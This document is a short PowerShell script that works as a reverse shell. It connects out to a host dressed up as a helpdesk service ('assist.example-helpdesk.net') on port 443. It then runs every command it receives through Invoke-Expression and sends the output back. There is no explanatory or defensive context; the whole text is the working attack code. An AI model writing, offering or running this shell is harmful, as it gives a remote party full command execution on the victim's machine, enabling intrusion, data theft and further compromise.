$c = New-Object System.Net.Sockets.TCPClient('assist.example-helpdesk.net', 443)
$s = $c.GetStream()
[byte[]]$b = 0..65535 | ForEach-Object { 0 }
while (($i = $s.Read($b, 0, $b.Length)) -ne 0) {
  $cmd = (New-Object Text.ASCIIEncoding).GetString($b, 0, $i)
  $out = try { Invoke-Expression $cmd 2>&1 | Out-String } catch { $_.Exception.Message }
  $s.Write([text.encoding]::ASCII.GetBytes($out), 0, $out.Length)
}
